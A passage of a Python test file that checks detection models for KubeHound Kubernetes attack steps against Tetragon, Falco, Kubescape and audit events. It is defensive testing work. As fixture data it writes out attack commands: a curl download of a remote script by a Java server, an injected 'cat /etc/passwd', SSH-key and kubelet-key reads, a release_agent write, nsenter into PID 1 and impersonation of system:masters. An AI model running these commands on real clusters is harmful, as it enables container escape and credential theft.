#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""The attack library (models/, issue 13): for every step of KubeHound's
catalogue, per sensor, events that must give a sighting of the step (with
the named indicator) and events that must not give any sighting of it; then
one end-to-end run per attack chain (events of several sensors in time order
give the sightings of each step in that order, with the right ATT&CK ids).

Events are real corpus lines (tests/data/corpus, provenance in its
PROVENANCE.md) where the corpus has the behaviour, else synthesised from the
sensor's documented schema; each synthesised event starts from a real corpus
record of the same sensor (the TEMPLATES below) and changes only the fields
the behaviour needs, so every other field keeps the shape the sensor writes.
Each case says which: REAL(file:line) or SYNTH(what)."""
import copy
import json
import os
import subprocess
import sys
import tempfile

ROOT = os.environ.get("STORM_SOURCE_ROOT", ".")
STORM = os.environ.get("STORM_BIN", "storm")
CORPUS = os.path.join(ROOT, "tests", "data", "corpus")
MODELS = os.path.join(ROOT, "models")
passed = failed = 0


import threading
LOCK = threading.Lock()


def check(cond, what):
    global passed, failed
    with LOCK:
        if cond:
            passed += 1
        else:
            failed += 1
            print("FAIL:", what, file=sys.stderr)


def corpus(path, line):
    with open(os.path.join(CORPUS, path)) as f:
        return json.loads(f.read().splitlines()[line - 1])


# Templates: real records whose shape the synthesised events keep.
T_KPROBE = corpus("tetragon/honeycluster-kubehound-calibration.jsonl", 1)   # process_kprobe, pod kh-calibration-ce-2
T_FALCO = corpus("falco/falco-website-alerts.jsonl", 8)                     # Terminal shell in container
T_KS = corpus("kubescape/honeycluster-webapp-ping.jsonl", 8)                # R0001, pod webapp
CLOCK = [1700000000]


def ts(t=None):
    if t is None:
        CLOCK[0] += 1
        t = CLOCK[0]
    import datetime
    return datetime.datetime.fromtimestamp(t, datetime.timezone.utc).strftime("%Y-%m-%dT%H:%M:%S.000000000Z")


def _proc(p, binary, arguments, pod):
    p["binary"] = binary
    p["arguments"] = arguments
    if not pod:
        p.pop("pod", None)
        p.pop("docker", None)


def kprobe(fn, args, binary="/bin/sh", arguments="", pod=True, t=None):
    """SYNTH from T_KPROBE: a Tetragon process_kprobe hit (args in Tetragon's export form)."""
    r = copy.deepcopy(T_KPROBE)
    e = r["process_kprobe"]
    e["function_name"] = fn
    e["args"] = args
    e["policy_name"] = "storm-test"
    _proc(e["process"], binary, arguments, pod)
    r["time"] = ts(t)
    return r


def execve(binary, arguments="", pod=True, parent=None, t=None):
    """SYNTH from T_KPROBE's process blocks: a Tetragon process_exec."""
    k = T_KPROBE["process_kprobe"]
    proc, par = copy.deepcopy(k["process"]), copy.deepcopy(k["parent"])
    _proc(proc, binary, arguments, pod)
    if parent:
        _proc(par, parent[0], parent[1], pod)
    return {"process_exec": {"process": proc, "parent": par}, "node_name": T_KPROBE["node_name"], "time": ts(t)}


def audit(verb, resource, sub=None, name="victim", ns="default", user="system:serviceaccount:default:web",
          ua="kubectl/v1.31.0 (linux/amd64) kubernetes/9edcffc", code=200, body=None, group="", t=None):
    """SYNTH from the audit.k8s.io/v1 Event schema (the fields Falco's trace files carry)."""
    path = ("/apis/%s/v1" % group if group else "/api/v1") + ("/namespaces/%s" % ns if ns else "") + "/" + resource
    if name:
        path += "/" + name
    if sub:
        path += "/" + sub
    obj = {"resource": resource, "apiVersion": "v1"}
    if group:
        obj["apiGroup"] = group
    if ns:
        obj["namespace"] = ns
    if name:
        obj["name"] = name
    if sub:
        obj["subresource"] = sub
    e = {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "RequestResponse", "auditID": "a-%d" % CLOCK[0],
         "stage": "ResponseComplete", "requestURI": path, "verb": verb,
         "user": {"username": user, "groups": ["system:authenticated"]}, "sourceIPs": ["10.244.0.31"], "userAgent": ua,
         "objectRef": obj, "responseStatus": {"metadata": {}, "code": code},
         "requestReceivedTimestamp": ts(t).replace("000000000Z", "000000Z"),
         "annotations": {"authorization.k8s.io/decision": "allow", "authorization.k8s.io/reason": ""}}
    if body is not None:
        e["requestObject"] = body
    return e


def falco(rule, fields=None, t=None):
    """SYNTH from T_FALCO: Falco json_output with another rule and output_fields."""
    r = copy.deepcopy(T_FALCO)
    r["rule"] = rule
    r["output"] = rule
    r["output_fields"].update(fields or {})
    r["time"] = ts(t)
    return r


def kubescape(rid, name, arguments, t=None):
    """SYNTH from T_KS: a Kubescape node-agent alert with another rule."""
    r = copy.deepcopy(T_KS)
    r["RuleID"] = rid
    r["BaseRuntimeMetadata"]["alertName"] = name
    r["BaseRuntimeMetadata"]["arguments"] = arguments
    r["BaseRuntimeMetadata"]["timestamp"] = ts(t)
    return r


def models():
    """step name -> technique ids; indicator id -> (step, indicator name)."""
    objs = []
    for f in sorted(os.listdir(MODELS)):
        if f.endswith(".json"):
            objs += json.load(open(os.path.join(MODELS, f)))["objects"]
    steps = {o["id"]: o for o in objs if o["type"] == "attack-pattern"}
    tech = {o["name"]: [r["external_id"] for r in o["external_references"] if r["source_name"] == "mitre-attack"]
            for o in steps.values()}
    kh = {o["name"]: [r["external_id"] for r in o["external_references"] if r["source_name"] == "kubehound"]
          for o in steps.values()}
    return tech, kh


TECH, KH = models()


def run(events):
    """Sightings of a storm run over the events: [(time, step, indicator)] in output order."""
    with tempfile.NamedTemporaryFile("w", suffix=".jsonl", delete=False) as f:
        for e in events:
            f.write(json.dumps(e) + "\n")
        path = f.name
    try:
        r = subprocess.run([STORM, "run", "-q", "--models", MODELS, "--format", "text", path],
                           capture_output=True, timeout=120)
    finally:
        os.unlink(path)
    check(r.returncode == 0, "storm run exits 0 (%d: %s)" % (r.returncode, r.stderr[:300]))
    out = []
    for line in r.stdout.decode().splitlines():
        parts = line.split("  ")
        if len(parts) >= 4:
            out.append((parts[0], parts[2], parts[3]))
    return out


def step_of(kh_id):
    names = [n for n, ids in KH.items() if kh_id in ids]
    check(len(names) == 1, "one step for %s (%s)" % (kh_id, names))
    return names[0] if names else "?"


ALL_FLAGS_W = 577   # O_WRONLY|O_CREAT|O_TRUNC: what a shell's > opens with
# (KubeHound id, sensor, provenance, events, indicator that must be sighted, or None: no sighting of the step)
CASES = [
    # POD_EXEC
    ("POD_EXEC", "audit", "REAL(k8s-audit/falco-trace-files-k8s-audit.jsonl:9)",
     [corpus("k8s-audit/falco-trace-files-k8s-audit.jsonl", 9)], "Kubernetes API exec or attach into a pod"),
    ("POD_EXEC", "audit", "REAL(k8s-audit/falco-trace-files-k8s-audit.jsonl:1) a configmap create",
     [corpus("k8s-audit/falco-trace-files-k8s-audit.jsonl", 1)], None),
    ("POD_EXEC", "falco", "REAL(falco/falco-website-alerts.jsonl:4)",
     [corpus("falco/falco-website-alerts.jsonl", 4)], "Falco: exec or attach into a pod"),
    ("POD_EXEC", "falco", "REAL(falco/falco-website-alerts.jsonl:10) API-server contact is no exec",
     [corpus("falco/falco-website-alerts.jsonl", 10)], None),
    ("POD_EXEC", "tetragon", "SYNTH(kubectl exec from a pod)",
     [execve("/usr/local/bin/kubectl", "exec -it web-0 -- /bin/bash")], "kubectl exec or a raw exec call started from a pod"),
    ("POD_EXEC", "tetragon", "SYNTH(raw exec call with websocat)",
     [execve("/usr/bin/websocat", "wss://10.96.0.1/api/v1/namespaces/default/pods/web-0/exec?command=id")], "kubectl exec or a raw exec call started from a pod"),
    ("POD_EXEC", "tetragon", "SYNTH(kubectl get pods)", [execve("/usr/local/bin/kubectl", "get pods -o wide")], None),
    # TOKEN_STEAL
    ("TOKEN_STEAL", "tetragon", "REAL(tetragon/honeycluster-kubehound-calibration.jsonl:3)",
     [corpus("tetragon/honeycluster-kubehound-calibration.jsonl", 3)], "Service-account token read"),
    ("TOKEN_STEAL", "tetragon", "SYNTH(openat of the token, syscall variant)",
     [kprobe("__x64_sys_openat", [{"int_arg": -100}, {"string_arg": "/var/run/secrets/kubernetes.io/serviceaccount/token"}, {"int_arg": 0}], "/usr/bin/python3", "steal.py")],
     "Service-account token opened (syscall)"),
    ("TOKEN_STEAL", "kubescape", "SYNTH(R0006 from the webapp alert)",
     [kubescape("R0006", "Unexpected service account token access", {"path": "/run/secrets/kubernetes.io/serviceaccount/token", "flags": ["O_RDONLY"]})],
     "Kubescape: unexpected service-account token access"),
    ("TOKEN_STEAL", "tetragon", "REAL(tetragon/tetragon-docs-examples.jsonl:4) vi /etc/passwd",
     [corpus("tetragon/tetragon-docs-examples.jsonl", 4)], None),
    ("TOKEN_STEAL", "tetragon", "SYNTH(openat of the CA certificate next to the token)",
     [kprobe("__x64_sys_openat", [{"int_arg": -100}, {"string_arg": "/var/run/secrets/kubernetes.io/serviceaccount/ca.crt"}, {"int_arg": 0}], "/usr/bin/python3", "app.py")], None),
    # ROLE_BIND
    ("ROLE_BIND", "audit", "REAL(k8s-audit/falco-trace-files-k8s-audit.jsonl:30)",
     [corpus("k8s-audit/falco-trace-files-k8s-audit.jsonl", 30)], "Role binding created or changed"),
    ("ROLE_BIND", "audit", "SYNTH(rolebindings list)", [audit("list", "rolebindings", name=None, group="rbac.authorization.k8s.io")], None),
    ("ROLE_BIND", "tetragon", "SYNTH(kubectl create clusterrolebinding from a pod)",
     [execve("/tmp/kubectl", "create clusterrolebinding cr-cr-admin --clusterrole=cluster-admin --serviceaccount=default:web")], "Role binding created from a pod"),
    ("ROLE_BIND", "tetragon", "SYNTH(curl POST to the rolebindings API)",
     [execve("/usr/bin/curl", "-sk -X POST -d @rb.json https://10.96.0.1/apis/rbac.authorization.k8s.io/v1/namespaces/default/rolebindings")], "Role binding created from a pod"),
    ("ROLE_BIND", "falco", "SYNTH(Falco k8s_audit rule)", [falco("Attach to cluster-admin Role")], "Falco: binding to cluster-admin or a powerful role"),
    ("ROLE_BIND", "tetragon", "SYNTH(kubectl get rolebindings)", [execve("/tmp/kubectl", "get rolebindings -A")], None),
    # POD_CREATE
    ("POD_CREATE", "audit", "REAL(k8s-audit/falco-trace-files-psp.jsonl:7)",
     [corpus("k8s-audit/falco-trace-files-psp.jsonl", 7)], "Pod with host namespaces, privilege or hostPath"),
    ("POD_CREATE", "audit", "REAL(k8s-audit/falco-trace-files-psp.jsonl:1) a pod without host access",
     [corpus("k8s-audit/falco-trace-files-psp.jsonl", 1)], None),
    ("POD_CREATE", "audit", "SYNTH(DaemonSet with hostPID)",
     [audit("create", "daemonsets", name=None, group="apps", body={"kind": "DaemonSet", "spec": {"template": {"spec": {"hostPID": True, "containers": [{"name": "x", "image": "ubuntu"}]}}}})],
     "Workload with host namespaces, privilege or hostPath"),
    ("POD_CREATE", "audit", "SYNTH(Deployment without host access)",
     [audit("create", "deployments", name=None, group="apps", body={"kind": "Deployment", "spec": {"template": {"spec": {"containers": [{"name": "x", "image": "nginx"}]}}}})], None),
    ("POD_CREATE", "tetragon", "SYNTH(kubectl apply from a pod)", [execve("/tmp/kubectl", "apply -f control-plane-pod-spec.yaml")], "Pod created from inside a pod"),
    ("POD_CREATE", "tetragon", "SYNTH(curl POST of a DaemonSet)",
     [execve("/usr/bin/curl", "-sk --request POST -d @ds.json https://10.96.0.1/apis/apps/v1/namespaces/kube-system/daemonsets")], "Pod created from inside a pod"),
    ("POD_CREATE", "tetragon", "SYNTH(kubectl create rolebinding is no pod)", [execve("/tmp/kubectl", "create rolebinding rb --role=admin --serviceaccount=default:web")], None),
    ("POD_CREATE", "falco", "SYNTH(Falco k8s_audit rule)", [falco("Create Privileged Pod")], "Falco: privileged, host-network or sensitive-mount pod"),
    # CE_NSENTER
    ("CE_NSENTER", "tetragon", "REAL(tetragon/tetragon-book-security-observability.jsonl:21)",
     [corpus("tetragon/tetragon-book-security-observability.jsonl", 21)], "nsenter into PID 1's namespaces"),
    ("CE_NSENTER", "tetragon", "REAL(tetragon/tetragon-docs-examples.jsonl:16)",
     [corpus("tetragon/tetragon-docs-examples.jsonl", 16)], "setns from a pod"),
    ("CE_NSENTER", "tetragon", "SYNTH(nsenter --all --target=1)", [execve("/usr/bin/nsenter", "--all --target=1 -- su -")], "nsenter into PID 1's namespaces"),
    ("CE_NSENTER", "tetragon", "REAL(tetragon/tetragon-book-security-observability.jsonl:16) bash in the same pod",
     [corpus("tetragon/tetragon-book-security-observability.jsonl", 16)], None),
    ("CE_NSENTER", "tetragon", "SYNTH(nsenter into a container's pid 4242)", [execve("/usr/bin/nsenter", "-t 4242 -n ip a")], None),
    # CE_SYS_PTRACE
    ("CE_SYS_PTRACE", "tetragon", "REAL(tetragon/honeycluster-kubehound-calibration.jsonl:8)",
     [corpus("tetragon/honeycluster-kubehound-calibration.jsonl", 8)], "ptrace system call"),
    ("CE_SYS_PTRACE", "tetragon", "REAL(tetragon/honeycluster-kubehound-calibration.jsonl:5)",
     [corpus("tetragon/honeycluster-kubehound-calibration.jsonl", 5)], "Debugger started"),
    ("CE_SYS_PTRACE", "tetragon", "REAL(tetragon/honeycluster-kubehound-calibration.jsonl:6) the sleep exec",
     [corpus("tetragon/honeycluster-kubehound-calibration.jsonl", 6)], None),
    ("CE_SYS_PTRACE", "falco", "SYNTH(Falco syscall rule)", [falco("PTRACE attached to process")], "Falco or Kubescape: ptrace"),
    ("CE_SYS_PTRACE", "kubescape", "SYNTH(R1015)", [kubescape("R1015", "Malicious Ptrace Usage", {})], "Falco or Kubescape: ptrace"),
    # CE_PRIV_MOUNT
    ("CE_PRIV_MOUNT", "tetragon", "REAL(tetragon/honeycluster-kubehound-calibration.jsonl:1)",
     [corpus("tetragon/honeycluster-kubehound-calibration.jsonl", 1)], "mount system call from a pod"),
    ("CE_PRIV_MOUNT", "tetragon", "SYNTH(mount /dev/vda1, the catalogue's example)", [execve("/usr/bin/mount", "/dev/vda1 /mnt/hostfs")], "Host disk mounted in a pod"),
    ("CE_PRIV_MOUNT", "tetragon", "SYNTH(security_sb_mount from a pod)",
     [kprobe("security_sb_mount", [{"string_arg": "/dev/nvme0n1p1"}, {"path_arg": {"path": "/mnt/hostfs"}}, {"string_arg": "ext4"}], "/usr/bin/mount", "/dev/nvme0n1p1 /mnt/hostfs")],
     "security_sb_mount from a pod"),
    ("CE_PRIV_MOUNT", "falco", "SYNTH(Falco rule)", [falco("Mount Launched in Privileged Container")], "Falco: mount in a privileged container"),
    ("CE_PRIV_MOUNT", "tetragon", "REAL(tetragon/tetragon-docs-examples.jsonl:7) a module request by mount -t xfs",
     [corpus("tetragon/tetragon-docs-examples.jsonl", 7)], None),
    ("CE_PRIV_MOUNT", "tetragon", "SYNTH(mount without arguments: discovery, not a mount)", [execve("/usr/bin/mount", "")], None),
    # CE_MODULE_LOAD
    ("CE_MODULE_LOAD", "tetragon", "REAL(tetragon/tetragon-docs-examples.jsonl:5)",
     [corpus("tetragon/tetragon-docs-examples.jsonl", 5)], "Kernel reads a module file"),
    ("CE_MODULE_LOAD", "tetragon", "REAL(tetragon/tetragon-docs-examples.jsonl:11) rmmod",
     [corpus("tetragon/tetragon-docs-examples.jsonl", 11)], None),
    ("CE_MODULE_LOAD", "falco", "SYNTH(Falco rule)", [falco("Linux Kernel Module Injection Detected")], "Falco or Kubescape: kernel module load"),
    ("CE_MODULE_LOAD", "kubescape", "SYNTH(R1002)", [kubescape("R1002", "Kernel Module Load", {"module": "bad"})], "Falco or Kubescape: kernel module load"),
    # CE_VAR_LOG_SYMLINK
    ("CE_VAR_LOG_SYMLINK", "tetragon", "REAL(tetragon/honeycluster-kubehound-calibration.jsonl:9)",
     [corpus("tetragon/honeycluster-kubehound-calibration.jsonl", 9)], "symlink created under /var/log"),
    ("CE_VAR_LOG_SYMLINK", "tetragon", "SYNTH(curl of the kubelet logs endpoint)",
     [execve("/usr/bin/curl", "-sk -H \"Authorization: Bearer x\" https://172.18.0.2:10250/logs/root_link/var/lib/kubelet/pods/")], "kubelet logs endpoint read through the API"),
    ("CE_VAR_LOG_SYMLINK", "tetragon", "REAL(tetragon/honeycluster-kubehound-calibration.jsonl:16)",
     [corpus("tetragon/honeycluster-kubehound-calibration.jsonl", 16)], None),
    # EXPLOIT_CONTAINERD_SOCK
    ("EXPLOIT_CONTAINERD_SOCK", "tetragon", "REAL(tetragon/honeycluster-kubehound-calibration.jsonl:10)",
     [corpus("tetragon/honeycluster-kubehound-calibration.jsonl", 10)], "Runtime client connects"),
    ("EXPLOIT_CONTAINERD_SOCK", "tetragon", "REAL(tetragon/honeycluster-kubehound-calibration.jsonl:14) kind's own script",
     [corpus("tetragon/honeycluster-kubehound-calibration.jsonl", 14)], None),
    ("EXPLOIT_CONTAINERD_SOCK", "falco", "SYNTH(Falco rule)", [falco("The docker client is executed in a container")], "Falco: container runtime client in a container"),
    # EXPLOIT_HOST_READ
    ("EXPLOIT_HOST_READ", "tetragon", "REAL(tetragon/honeycluster-kubehound-calibration.jsonl:16)",
     [corpus("tetragon/honeycluster-kubehound-calibration.jsonl", 16)], "Read through /proc of another process"),
    ("EXPLOIT_HOST_READ", "tetragon", "SYNTH(LSM read under /hostfs)",
     [kprobe("security_file_permission", [{"file_arg": {"path": "/hostfs/root/.ssh/id_rsa"}}, {"int_arg": 4}], "/bin/cat", "/hostfs/root/.ssh/id_rsa")],
     "Host file read (LSM), any host mount point"),
    ("EXPLOIT_HOST_READ", "tetragon", "REAL(tetragon/honeycluster-kubehound-calibration.jsonl:17) a write",
     [corpus("tetragon/honeycluster-kubehound-calibration.jsonl", 17)], None),
    ("EXPLOIT_HOST_READ", "tetragon", "SYNTH(LSM read of /hostname: not a host mount)",
     [kprobe("security_file_permission", [{"file_arg": {"path": "/hostname"}}, {"int_arg": 4}], "/bin/cat", "/hostname")], None),
    # EXPLOIT_HOST_WRITE
    ("EXPLOIT_HOST_WRITE", "tetragon", "REAL(tetragon/honeycluster-kubehound-calibration.jsonl:17)",
     [corpus("tetragon/honeycluster-kubehound-calibration.jsonl", 17)], "Write under a hostPath mount"),
    ("EXPLOIT_HOST_WRITE", "tetragon", "SYNTH(LSM write under /host-etc, the catalogue's mount)",
     [kprobe("security_file_permission", [{"file_arg": {"path": "/host-etc/cron.d/breakout"}}, {"int_arg": 2}], "/bin/sh", "-c \"echo x >> /host-etc/cron.d/breakout\"")],
     "Host file written (LSM), any host mount point"),
    ("EXPLOIT_HOST_WRITE", "tetragon", "REAL(tetragon/honeycluster-kubehound-calibration.jsonl:16) a read",
     [corpus("tetragon/honeycluster-kubehound-calibration.jsonl", 16)], None),
    # CE_UMH_CORE_PATTERN
    ("CE_UMH_CORE_PATTERN", "tetragon", "SYNTH(LSM write of /sysproc/sys/kernel/core_pattern, the catalogue's mount)",
     [kprobe("security_file_permission", [{"file_arg": {"path": "/sysproc/sys/kernel/core_pattern"}}, {"int_arg": 2}], "/bin/bash", "")],
     "Usermode-helper file written (LSM)"),
    ("CE_UMH_CORE_PATTERN", "tetragon", "SYNTH(openat of core_pattern by a relative path after cd /sysproc)",
     [kprobe("__x64_sys_openat", [{"int_arg": -100}, {"string_arg": "core_pattern"}, {"int_arg": ALL_FLAGS_W}], "/bin/bash", "")],
     "Usermode-helper file opened for writing (syscall)"),
    ("CE_UMH_CORE_PATTERN", "tetragon", "SYNTH(release_agent named on a command line)",
     [execve("/bin/sh", "-c \"echo /cmd > /tmp/cgrp/release_agent\"")], "Usermode helper named on a command line in a pod"),
    ("CE_UMH_CORE_PATTERN", "falco", "SYNTH(Falco rule)", [falco("Detect release_agent File Container Escapes")], "Falco: release_agent escape"),
    ("CE_UMH_CORE_PATTERN", "tetragon", "SYNTH(LSM read of core_pattern: reading is no escape)",
     [kprobe("security_file_permission", [{"file_arg": {"path": "/proc/sys/kernel/core_pattern"}}, {"int_arg": 4}], "/usr/lib/systemd/systemd-coredump", "", pod=False)], None),
    # CONTAINER_ATTACH
    ("CONTAINER_ATTACH", "audit", "REAL(k8s-audit/falco-trace-files-k8s-audit.jsonl:27)",
     [corpus("k8s-audit/falco-trace-files-k8s-audit.jsonl", 27)], "Attach to a container through the API"),
    ("CONTAINER_ATTACH", "audit", "SYNTH(kubectl debug: patch of pods/ephemeralcontainers)",
     [audit("patch", "pods", "ephemeralcontainers", body={"spec": {"ephemeralContainers": [{"name": "debugger-x", "image": "busybox:1.28", "targetContainerName": "web"}]}})],
     "Ephemeral container added to a pod"),
    ("CONTAINER_ATTACH", "audit", "REAL(k8s-audit/falco-trace-files-k8s-audit.jsonl:9) an exec",
     [corpus("k8s-audit/falco-trace-files-k8s-audit.jsonl", 9)], None),
    ("CONTAINER_ATTACH", "tetragon", "SYNTH(kubectl debug from a pod)", [execve("/tmp/kubectl", "debug -it web-0 --image=busybox:1.28 --target=web")],
     "kubectl debug or attach, or a raw call, from a pod"),
    ("CONTAINER_ATTACH", "falco", "SYNTH(Falco k8s_audit rule)", [falco("EphemeralContainers Created")], "Falco: ephemeral container created"),
    # ENDPOINT_EXPLOIT
    ("ENDPOINT_EXPLOIT", "kubescape", "SYNTH(R0001 from the webapp alert: an injected command after the ping)",
     [json.loads(json.dumps(corpus("kubescape/honeycluster-webapp-ping.jsonl", 9)).replace("ping -c 4 172.16.0.2", "ping -c 4 1.1.1.1; cat /etc/passwd"))],
     "Injected command or downloader started by a network server in a pod"),
    ("ENDPOINT_EXPLOIT", "tetragon", "SYNTH(curl started by a java server)",
     [execve("/usr/bin/curl", "-s http://203.0.113.7/x.sh", parent=("/usr/bin/java", "-jar app.jar"))], "Injected command or downloader started by a network server in a pod"),
    ("ENDPOINT_EXPLOIT", "falco", "SYNTH(Falco rule)", [falco("Netcat Remote Code Execution in Container")], "Falco: remote code execution in a container"),
    ("ENDPOINT_EXPLOIT", "kubescape", "REAL(kubescape/honeycluster-webapp-ping.jsonl:9) the app's own sh -c ping",
     [corpus("kubescape/honeycluster-webapp-ping.jsonl", 9)], None),
    # EXPLOIT_HOST_TRAVERSE
    ("EXPLOIT_HOST_TRAVERSE", "tetragon", "SYNTH(LSM read of another pod's token under /host)",
     [kprobe("security_file_permission", [{"file_arg": {"path": "/host/var/lib/kubelet/pods/5a9fc508-8410-444a-bf63-9f11e5979bee/volumes/kubernetes.io~projected/kube-api-access-225d6/..2025_01_13_23_08_36.1/token"}}, {"int_arg": 4}], "/bin/cat", "")],
     "Pod token read through a host mount (LSM)"),
    ("EXPLOIT_HOST_TRAVERSE", "tetragon", "SYNTH(openat of a token under /rootfs)",
     [kprobe("__x64_sys_openat", [{"int_arg": -100}, {"string_arg": "/rootfs/var/lib/kubelet/pods/a1/volumes/kubernetes.io~projected/kube-api-access-ng6px/token"}, {"int_arg": 0}], "/bin/cat", "")],
     "Pod token opened through a host mount (syscall)"),
    ("EXPLOIT_HOST_TRAVERSE", "tetragon", "SYNTH(find over the host's kubelet pods, the catalogue's command)",
     [execve("/usr/bin/find", "/host/var/lib/kubelet/pods/ -name token -type l")], "kubelet pod directory searched from a pod"),
    ("EXPLOIT_HOST_TRAVERSE", "tetragon", "REAL(tetragon/honeycluster-kubehound-calibration.jsonl:3) the pod's own token",
     [corpus("tetragon/honeycluster-kubehound-calibration.jsonl", 3)], None),
    # IDENTITY_ASSUME
    ("IDENTITY_ASSUME", "tetragon", "REAL(tetragon/honeycluster-kubehound-calibration.jsonl:2)",
     [corpus("tetragon/honeycluster-kubehound-calibration.jsonl", 2)], "Bearer token or kubeconfig handed to a client in a pod"),
    ("IDENTITY_ASSUME", "tetragon", "SYNTH(LSM read of the kubelet client key under /host)",
     [kprobe("security_file_permission", [{"file_arg": {"path": "/host/var/lib/kubelet/pki/kubelet-client-current.pem"}}, {"int_arg": 4}], "/usr/bin/curl", "")],
     "Node or admin credentials read from a pod"),
    ("IDENTITY_ASSUME", "audit", "SYNTH(a service account calls with curl)",
     [audit("get", "secrets", name=None, ns="kube-system", ua="curl/8.5.0")], "API call by a service account or node from a generic client"),
    ("IDENTITY_ASSUME", "falco", "SYNTH(Falco rule, curl)", [falco("Contact K8S API Server From Container", {"proc.cmdline": "curl -sSk https://10.96.0.1/api"})],
     "Falco: API server contacted by a client tool in a container"),
    ("IDENTITY_ASSUME", "kubescape", "SYNTH(R0007)", [kubescape("R0007", "Kubernetes Client Executed", {"exec": "/tmp/kubectl"})], "Kubescape: Kubernetes client executed"),
    ("IDENTITY_ASSUME", "falco", "REAL(falco/falco-website-alerts.jsonl:10) an openfaas function's own client",
     [corpus("falco/falco-website-alerts.jsonl", 10)], None),
    ("IDENTITY_ASSUME", "audit", "SYNTH(a controller's own client)",
     [audit("list", "pods", name=None, user="system:serviceaccount:kube-system:replicaset-controller", ua="kube-controller-manager/v1.31.0 (linux/amd64) kubernetes/9edcffc/system:serviceaccount:kube-system:replicaset-controller")], None),
    # IDENTITY_IMPERSONATE
    ("IDENTITY_IMPERSONATE", "tetragon", "SYNTH(kubectl --as-group=system:masters, the catalogue's command)",
     [execve("/tmp/kubectl", "get secrets -A --as=null --as-group=system:masters -o json")], "Impersonation flags or headers on a command line"),
    ("IDENTITY_IMPERSONATE", "tetragon", "SYNTH(curl with an Impersonate-Group header)",
     [execve("/usr/bin/curl", "-sk -H \"Impersonate-Group: system:masters\" -H \"Impersonate-User: x\" https://10.96.0.1/api/v1/secrets")], "Impersonation flags or headers on a command line"),
    ("IDENTITY_IMPERSONATE", "audit", "SYNTH(kubectl auth can-i impersonate users)",
     [audit("create", "selfsubjectaccessreviews", name=None, ns=None, group="authorization.k8s.io",
            body={"kind": "SelfSubjectAccessReview", "spec": {"resourceAttributes": {"verb": "impersonate", "resource": "users"}}})], "Impersonation permission checked"),
    ("IDENTITY_IMPERSONATE", "audit", "SYNTH(can-i create pods)",
     [audit("create", "selfsubjectaccessreviews", name=None, ns=None, group="authorization.k8s.io",
            body={"kind": "SelfSubjectAccessReview", "spec": {"resourceAttributes": {"verb": "create", "resource": "pods"}}})], None),
    ("IDENTITY_IMPERSONATE", "tetragon", "SYNTH(an --assume flag is no impersonation)", [execve("/usr/bin/apt-get", "install --assume-yes gdb")], None),
    # PERMISSION_DISCOVER
    ("PERMISSION_DISCOVER", "audit", "SYNTH(kubectl auth can-i --list: SelfSubjectRulesReview)",
     [audit("create", "selfsubjectrulesreviews", name=None, ns=None, group="authorization.k8s.io", body={"kind": "SelfSubjectRulesReview", "spec": {"namespace": "default"}})],
     "Self subject access or rules review"),
    ("PERMISSION_DISCOVER", "tetragon", "SYNTH(kubectl auth can-i --list from a pod)", [execve("/tmp/kubectl", "auth can-i --list")], "Permission discovery from a pod"),
    ("PERMISSION_DISCOVER", "audit", "SYNTH(a user lists clusterrolebindings)",
     [audit("list", "clusterrolebindings", name=None, ns=None, user="mallory", group="rbac.authorization.k8s.io")], "Role bindings listed by a non-system user"),
    ("PERMISSION_DISCOVER", "audit", "SYNTH(the controller manager lists rolebindings)",
     [audit("list", "rolebindings", name=None, ns=None, user="system:kube-controller-manager", group="rbac.authorization.k8s.io")], None),
    # POD_ATTACH
    ("POD_ATTACH", "tetragon", "SYNTH(ctr task exec on the node, the catalogue's command)",
     [execve("/usr/local/bin/ctr", "-n k8s.io task exec -t --exec-id full-control 0f36d12d60d1 /bin/sh", pod=False)], "Runtime client exec or attach"),
    ("POD_ATTACH", "tetragon", "SYNTH(crictl attach)", [execve("/usr/local/bin/crictl", "attach 05c862f55a017", pod=False)], "Runtime client exec or attach"),
    ("POD_ATTACH", "tetragon", "REAL(tetragon/honeycluster-kubehound-calibration.jsonl:10) crictl ps",
     [corpus("tetragon/honeycluster-kubehound-calibration.jsonl", 10)], None),
    # POD_PATCH
    ("POD_PATCH", "audit", "SYNTH(kubectl patch pod with another image)",
     [audit("patch", "pods", body={"spec": {"containers": [{"name": "web", "image": "kalilinux/kali-last-release"}]}})], "Pod image changed through the API"),
    ("POD_PATCH", "audit", "SYNTH(the kubelet patches pods/status)",
     [audit("patch", "pods", "status", user="system:node:kind-worker", ua="kubelet/v1.31.0", body={"status": {"phase": "Running"}})], None),
    ("POD_PATCH", "tetragon", "SYNTH(kubectl set image from a pod)", [execve("/tmp/kubectl", "set image pod/web-0 web=kalilinux/kali-last-release")], "Pod patched from a pod"),
    ("POD_PATCH", "tetragon", "SYNTH(curl -X PATCH of a pod)",
     [execve("/usr/bin/curl", "-sk -X PATCH -H \"Content-Type: application/strategic-merge-patch+json\" -d @p.json https://10.96.0.1/api/v1/namespaces/default/pods/web-0")], "Pod patched from a pod"),
    # SHARE_PS_NAMESPACE
    ("SHARE_PS_NAMESPACE", "tetragon", "REAL(tetragon/honeycluster-kubehound-calibration.jsonl:19)",
     [corpus("tetragon/honeycluster-kubehound-calibration.jsonl", 19)], "Another process's root, memory or environment opened"),
    ("SHARE_PS_NAMESPACE", "audit", "SYNTH(pod create with shareProcessNamespace)",
     [audit("create", "pods", name=None, body={"kind": "Pod", "metadata": {"name": "nginx"}, "spec": {"shareProcessNamespace": True, "containers": [{"name": "nginx", "image": "nginx"}]}})],
     "Pod with a shared process namespace created"),
    ("SHARE_PS_NAMESPACE", "tetragon", "REAL(tetragon/honeycluster-kubehound-calibration.jsonl:16) /proc/1/status",
     [corpus("tetragon/honeycluster-kubehound-calibration.jsonl", 16)], None),
    # TOKEN_BRUTEFORCE
    ("TOKEN_BRUTEFORCE", "audit", "SYNTH(ten gets of guessed token secret names, all 404)",
     [audit("get", "secrets", name="default-token-%05d" % i, code=404) for i in range(10)], "Repeated secret gets that miss"),
    ("TOKEN_BRUTEFORCE", "audit", "SYNTH(nine misses and a hit)",
     [audit("get", "secrets", name="default-token-%05d" % i, code=404) for i in range(9)] + [audit("get", "secrets", name="web-tls")], None),
    ("TOKEN_BRUTEFORCE", "tetragon", "SYNTH(curl of one secret by name)",
     [execve("/usr/bin/curl", "-sk https://10.96.0.1/api/v1/namespaces/kube-system/secrets/default-token-x7k2p")], "Secret fetched by name from a pod"),
    # TOKEN_LIST
    ("TOKEN_LIST", "audit", "SYNTH(kubectl get secrets -o json by a workload's service account)",
     [audit("list", "secrets", name=None)], "Secrets listed by a user or workload"),
    ("TOKEN_LIST", "audit", "SYNTH(the controller manager watches secrets)",
